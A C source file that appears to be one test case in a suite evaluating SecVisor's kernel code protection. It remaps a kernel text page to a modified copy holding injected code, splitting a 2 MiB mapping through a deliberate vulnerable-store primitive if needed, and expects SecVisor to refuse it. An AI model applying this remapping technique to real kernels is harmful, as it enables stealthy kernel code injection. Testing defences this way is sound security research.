// Row 4. Approved-page remapping: the page-table entry of kernel text is made to name an unapproved frame, a changed copy of the page. A 2 MiB mapping is split for it.
// Source: Franklin et al. 2008 (SecVisor's own model checking).
// Ends: natively succeeded; beneath SecVisor refused, unapproved-code.
#include "common/attack.h"

// Makes the page of `at` map another frame; its 2 MiB mapping is split first if there is one.
static void remap(u64 at, u64 frame, u64 extra)
{
	u64 value, entry;
	unsigned shift;

	entry = entry_of(at, &value, &shift);
	if (shift == 21) {
		u64 table = kernel_page(), flags = value & ~FRAME & ~LARGE;

		for (u64 i = 0; i < 512; i++)
			operate(VULNERABLE_STORE, table + 8 * i, ((value & FRAME & ~0x1fffffull) + (i << 12)) | flags, 8);
		operate(VULNERABLE_STORE, table + 8 * ((at >> 12) & 511), frame | flags | extra, 8);
		poke(entry, physical(table) | 0x63);
	} else if (shift == 12) {
		poke(entry, (value & ~FRAME) | frame | extra);
	} else {
		failed("mapped by %u bits", shift);
	}
	flush(0);
}

ATTACK("remap-text")
{
	u64 at = symbol(VICTIM);
	u8 approved[CODE_LENGTH];
	long before = victim();

	kread(at, approved, sizeof(approved));
	keep_bytes(at, sizeof(approved));
	u64 copy = kernel_page();
	u8 page[PAGE];

	kread(at & ~(PAGE - 1), page, PAGE);
	kwrite(copy, page, PAGE);
	kwrite(copy + (at & (PAGE - 1)), CODE, CODE_LENGTH);
	remap(at, physical(copy), 0);
	about_to("run the text of a frame that is not the approved one");
	judge_victim(before, approved, "by remapping its page");
}
